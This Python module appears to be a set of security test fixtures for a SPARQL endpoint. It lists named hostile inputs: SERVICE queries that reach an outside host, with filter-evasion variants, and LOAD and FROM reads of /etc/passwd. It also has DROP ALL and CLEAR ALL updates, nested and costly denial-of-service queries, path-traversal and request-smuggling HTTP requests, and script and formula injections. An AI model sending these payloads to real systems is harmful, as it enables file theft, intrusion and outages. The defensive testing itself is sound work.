# ruff: noqa: E501 - queries and requests as they are sent
"""Queries and requests that mean harm, by name: those of the table of attacks that a public endpoint was seen to fall for.

``URL`` in a query stands for a server that notes who comes.
"""

from __future__ import annotations

CALLS = {
    "plain": "SELECT * { SERVICE <URL> { ?s ?p ?o } }",
    "silent": "SELECT * { SERVICE SILENT <URL> { ?s ?p ?o } }",
    "glued to a name": "PREFIX x: <URL> SELECT * { SERVICEx:y { ?s ?p ?o } }",
    "glued to a number": "PREFIX x: <URL> SELECT * { ?s ?p 1.0e0SERVICEx:y { ?s ?p ?o } }",
    "mixed case": "SELECT * { sErViCe <URL> { ?s ?p ?o } }",
    "comment between": "SELECT * { SERVICE#x\nSILENT#y\n<URL> { ?s ?p ?o } }",
    "in OPTIONAL": "SELECT * { ?a ?b ?c OPTIONAL { SERVICE <URL> { ?s ?p ?o } } }",
    "in EXISTS": "SELECT * { ?a ?b ?c FILTER EXISTS { SERVICE <URL> { ?s ?p ?o } } }",
    "in NOT EXISTS": "ASK { ?a ?b ?c FILTER NOT EXISTS { SERVICE <URL> { ?s ?p ?o } } }",
    "in a sub-select": "SELECT * { { SELECT * { SERVICE <URL> { ?s ?p ?o } } } }",
    "in UNION": "SELECT * { { ?s ?p ?o } UNION { SERVICE <URL> { ?s ?p ?o } } }",
    "in MINUS": "SELECT * { ?s ?p ?o MINUS { SERVICE <URL> { ?s ?p ?o } } }",
    "in GRAPH": "SELECT * { GRAPH ?g { SERVICE <URL> { ?s ?p ?o } } }",
    "by prefix": "PREFIX x: <URL> SELECT * { SERVICE x: { ?s ?p ?o } }",
    "by variable": "SELECT * { BIND(<URL> AS ?u) SERVICE ?u { ?s ?p ?o } }",
    "by VALUES": "SELECT * { VALUES ?u { <URL> } SERVICE ?u { ?s ?p ?o } }",
    "in CONSTRUCT": "CONSTRUCT { ?s ?p ?o } WHERE { SERVICE <URL> { ?s ?p ?o } }",
    "in DESCRIBE": "DESCRIBE ?s WHERE { SERVICE <URL> { ?s ?p ?o } }",
    "escaped letter": "SELECT * { \\u0053ERVICE <URL> { ?s ?p ?o } }",
    "after a string": "SELECT * { ?s ?p '''it''s''' . SERVICE <URL> { ?s ?p ?o } }",
    "after a false comment": 'SELECT * { <urn:a#b> ?p "#" SERVICE <URL> { ?s ?p ?o } }',
    "after FROM": "SELECT * FROM <URL> { SERVICE <URL> { ?s ?p ?o } }",
    "to a file": "SELECT * { SERVICE <file:///etc/passwd> { ?s ?p ?o } }",
    "in ASK": "ASK { SERVICE <URL> { ?s ?p ?o } }",
    "in a called one": "SELECT * { SERVICE <URL> { SERVICE <URL> { ?s ?p ?o } } }",
}
GRAPHS_ELSEWHERE = {
    "FROM": "SELECT * FROM <URL> { ?s ?p ?o }",
    "FROM NAMED": "SELECT * FROM NAMED <URL> { GRAPH ?g { ?s ?p ?o } }",
    "GRAPH": "SELECT * { GRAPH <URL> { ?s ?p ?o } }",
    "FROM a file": "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
}
UPDATES = {
    "LOAD": "LOAD <URL>",
    "LOAD of a file": "LOAD SILENT <file:///etc/passwd> INTO GRAPH <urn:a>",
    "INSERT": "INSERT { ?s ?p ?o } WHERE { SERVICE <URL> { ?s ?p ?o } }",
    "INSERT DATA": "INSERT DATA { <urn:a> <urn:b> <urn:c> }",
    "DELETE": "DELETE WHERE { ?s ?p ?o }",
    "CLEAR": "CLEAR ALL",
    "DROP": "PREFIX a: <urn:a> DROP ALL",
}


def nested(opening: str, middle: str, closing: str, times: int) -> str:
    """Return a text within brackets, many times over."""
    return opening * times + middle + closing * times


NESTED = {
    "groups": f"SELECT * {nested('{', '', '}', 5_000)}",
    "parentheses": f"SELECT * {{ FILTER{nested('(', '1', ')', 10_000)} }}",
    "negations": f"SELECT * {{ FILTER({'!' * 20_000}true) }}",
    "sums": f"SELECT * {{ FILTER(1{'+1' * 20_000}) }}",
    "unions": f"SELECT * {{ {{}}{'UNION{}' * 6_000} }}",
    "sub-selects": f"SELECT * {nested('{SELECT*', '{}', '}', 3_000)}",
    "EXISTS": f"SELECT * {{ {nested('FILTER EXISTS{', '', '}', 3_000)} }}",
    "OPTIONAL": f"SELECT * {{ {nested('OPTIONAL{', '', '}', 4_000)} }}",
    "MINUS": f"SELECT * {{ {nested('MINUS{', '', '}', 4_000)} }}",
    "IF": f"SELECT * {{ BIND({nested('IF(true,', '1', ',1)', 3_000)} AS ?x) }}",
    "blank nodes": f"SELECT * {{ ?s ?p {nested('[ ?p ', '1', ']', 4_000)} }}",
    "collections": f"SELECT * {{ ?s ?p {nested('(', '1', ')', 8_000)} }}",
    "triple terms": f"SELECT * {{ ?s ?p {nested('<<( ?a ?b ', '1', ')>>', 3_000)} }}",
    "paths": f"SELECT * {{ ?s {nested('(', '<urn:p>', ')*', 8_000)} ?o }}",
    "paths inverted": f"SELECT * {{ ?s {'^' * 20_000}<urn:p> ?o }}",
    "brackets that never end": f"SELECT * {'{' * 60_000}",
}
COSTLY = {
    "cross join": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "cross join ordered": "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY ?a ?f ?i",
    "distinct": "SELECT DISTINCT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }  ORDER BY ?c",
    "grouped": "SELECT ?a ?d (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f } GROUP BY ?a ?d ?c ?f ORDER BY ?n",
    "all paths": "SELECT (COUNT(*) AS ?n) { ?a (!<urn:x>)* ?b . ?b (!<urn:y>)* ?c }",
    "doubling": "SELECT (STRLEN(?z) AS ?n) { BIND('0123456789abcdef' AS ?a0) "
    + " ".join(f"BIND(CONCAT(?a{i}, ?a{i}) AS ?a{i + 1})" for i in range(30))
    + " BIND(?a30 AS ?z) }",
    "replace": "SELECT ?x { BIND(REPLACE(REPLACE(REPLACE(REPLACE('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa','a','bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb'),'b','cccccccccccccccccccccccccccccccccccccccccccccccccccccccc'),'c','dddddddddddddddddddddddddddddddddddddddddddddddddddddddd'),'d','eeeeeeeeeeeeeeeeeeeeeeeeeeeeeee') AS ?x) }",
    "regex for each row": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f FILTER(REGEX(STR(?c), CONCAT('(', STR(?f), ')+'))) }",
    "group concat": "SELECT (GROUP_CONCAT(?c) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "many patterns": "SELECT * { " + " . ".join(f"?s ?p{i} ?o{i}" for i in range(400)) + " }",
    "chain of patterns": "SELECT * { " + " . ".join(f"?x{i} ?p{i} ?x{i + 1}" for i in range(300)) + " }",
    "many optionals": "SELECT * { " + " ".join(f"OPTIONAL {{ ?s ?p{i} ?o{i} }}" for i in range(300)) + " }",
    "in": "SELECT * { ?s ?p ?o FILTER(?o IN (" + ",".join(map(str, range(9_000))) + ")) }",
    "constructed": "CONSTRUCT { ?a ?e ?i } { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i FILTER(?c = ?f && ?i = ?c && ?b != ?e) }",
}  # fmt: skip
HARMLESS = {
    "star of patterns": "SELECT * { " + " . ".join(f"?s ?p{i} ?o{i}" for i in range(55)) + " }",
    "evil regex": "SELECT * { FILTER(REGEX('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!', '(a+)+$')) }",
    "huge repeat": "SELECT * { FILTER(REGEX('a', '((a{1000}){1000}){1000}')) }",
    "values": "SELECT * { VALUES ?x { " + "1 " * 30_000 + "} }",
    "described": "DESCRIBE * { ?a ?b ?c . ?d ?e ?f }",
    "null character": "SELECT ('a\\u0000b' AS ?x) {}",
    "alternatives": "SELECT * { ?s " + "|".join(f"<urn:p{i}>" for i in range(2_000)) + " ?o }",
    "script in an IRI": 'SELECT * { <http://x.example/"><script>alert(1)</script>> ?p ?o }',
    "script in a number": 'SELECT ("<b>x</b>"^^<http://www.w3.org/2001/XMLSchema#integer> AS ?x) {}',
    "right to left": "SELECT ('\\u202Egpj.exe' AS ?x) {}",
    "pragma of Virtuoso": 'define get:soft "replace" SELECT * FROM <http://127.0.0.1/> { ?s ?p ?o }',
    "function of Virtuoso": "SELECT (<bif:sys_stat>('st_dbms_ver') AS ?x) {}",
    "function of Jena": "SELECT (<java:java.lang.System.exit>(1) AS ?x) {}",
    "formula for a spreadsheet": "SELECT ('=HYPERLINK(\"http://x.example\")' AS ?x) {}",
}


REQUESTS = {
    "bad percent-encoding": b"GET /%zz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "half an escape": b"GET /doc/% HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "not UTF-8": b"GET /%ff%fe HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "NUL": b"GET /doc/%00 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "up": b"GET /../../../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "up escaped": b"GET /assets/%2e%2e/%2e%2e/release.json HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "escaped slash": b"GET /doc%2factie%2fa1.ttl HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "backslash": b"GET /..%5c..%5cetc HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "up in the editor": b"GET /assets/editor/../pool.py HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "up in a question": b"GET /question/../../x/answer HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "too long": b"GET /" + b"a" * 20_000 + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "far too long": b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    "huge header": b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 200_000 + b"\r\n\r\n",
    "many headers": b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X: y\r\n" * 30_000 + b"\r\n",
    "no HTTP": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    "no host": b"GET / HTTP/1.1\r\n\r\n",
    "two lengths": b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    "length and chunks": b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n",
    "negative length": b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
    "huge length": b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\nContent-Length: 99999999999\r\n\r\n",
    "chunk that is no number": b"POST /sparql HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n\r\n",
    "space before the colon": b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Length : 5\r\n\r\nhello",
    "NUL in a header": b"GET / HTTP/1.1\r\nHost: x\r\nX: a\x00b\r\nConnection: close\r\n\r\n",
    "another version": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "a way through": b"CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "up, escaped twice": b"GET /%252e%252e/%252e%252e/etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "a letter in too many bytes": b"GET /%c0%ae%c0%ae/etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "strange method": b"BREW / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    "trace": b"TRACE / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
}  # fmt: skip
UNFINISHED = {
    "half a head": b"GET / HTTP/1.1\r\n",
    "half a body": b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\nContent-Length: 50\r\n\r\nSELECT",
    "chunk without end": b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nx",
}
